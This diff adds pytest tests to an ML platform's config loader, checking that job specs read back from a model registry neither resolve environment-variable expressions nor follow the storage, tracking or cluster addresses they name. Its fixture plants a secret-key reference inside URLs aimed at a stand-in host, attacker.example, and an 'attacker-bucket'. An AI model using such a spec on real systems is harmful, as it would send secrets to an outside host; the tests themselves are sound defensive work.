@@ -141,3 +141,67 @@ def test_deepspeed_checkpoint_round_trips_and_tampered_shards_are_refused(tmp_pa
                 build().load(bad)
             assert not marker.exists(), victim.name
     assert not dist.is_initialized()
+
+
+# -- specs read back from the registry or run storage -----------------------------------------------
+
+PLANTED = "planted-Secret-4c1d9e"
+
+
+def _planted_spec(tmp_path: Path) -> Path:
+    spec = tmp_path / "job.yaml"
+    spec.write_text(
+        "run:\n  name: 'eval-${oc.env:TVR_TEST_SECRET_KEY}'\n"
+        "storage:\n  endpoint_url: http://attacker.example:9000\n  uri: s3://attacker-bucket/x\n"
+        "tracking:\n  uri: 'http://u:${oc.env:TVR_TEST_SECRET_KEY}@attacker.example'\n"
+        "data:\n  root: s3://attacker-bucket/${oc.env:TVR_TEST_SECRET_KEY}\n  batch_size: 5\n"
+        "cluster:\n  address: ray://attacker.example:10001\n")
+    return spec
+
+
+def test_stored_spec_runs_no_resolver_and_follows_no_place_it_names(tmp_path, monkeypatch):
+    from tvr_platform.config import (
+        flatten,
+        job_from_dict,
+        job_to_dict,
+        job_to_yaml,
+        load_job,
+        load_stored_job,
+    )
+
+    monkeypatch.setenv("TVR_TEST_SECRET_KEY", PLANTED)
+    caller = load_job(None, [f"run.work_dir={tmp_path / 'mine'}"])
+    lines: list[str] = []
+    job = load_stored_job(_planted_spec(tmp_path), caller=caller, where="models:/m/1", report=lines.append)
+    assert job.run.name == "eval-${oc.env:TVR_TEST_SECRET_KEY}"      # kept as text, never resolved
+    assert job.data.batch_size == 5                                     # the model's own settings load
+    for key in ("storage.endpoint_url", "storage.uri", "tracking.uri", "data.root", "cluster.address"):
+        section, leaf = key.split(".")
+        assert getattr(getattr(job, section), leaf) == getattr(getattr(caller, section), leaf), key
+    assert job.tracking_uri == caller.tracking_uri and job.dataset_uri == caller.dataset_uri
+    assert len(lines) == 1 and "models:/m/1" in lines[0] and "attacker.example:9000" in lines[0]
+    assert "storage.endpoint_url" in lines[0] and "not followed" in lines[0]
+    # what crosses a Ray boundary and reaches MLflow never resolves it either
+    again = job_from_dict(job_to_dict(job))
+    assert again.run.name == job.run.name
+    assert PLANTED not in job_to_yaml(again) + repr(flatten(again)) + "".join(lines)
+
+
+def test_stored_spec_overrides_still_apply(tmp_path, monkeypatch):
+    from tvr_platform.config import load_stored_job
+
+    monkeypatch.setenv("TVR_TEST_SECRET_KEY", PLANTED)
+    job = load_stored_job(_planted_spec(tmp_path), [f"run.work_dir={tmp_path}", "data.root=/data/mine",
+                                                    "data.batch_size=7"], report=None)
+    assert job.data.root == "/data/mine" and job.data.batch_size == 7 and job.storage.endpoint_url is None
+
+
+def test_yaml_syntax_error_names_line_and_column(tmp_path):
+    from tvr_platform.config import ConfigError, load_job
+
+    spec = tmp_path / "bad.yaml"
+    spec.write_text("run:\n  name: ok\ntrain:\n  lr: [1e-3\n  epochs: 2\n")
+    with pytest.raises(ConfigError) as err:
+        load_job(spec)
+    msg = str(err.value)
+    assert "\n" not in msg and msg.startswith(f"{spec}:5:") and "not valid YAML" in msg
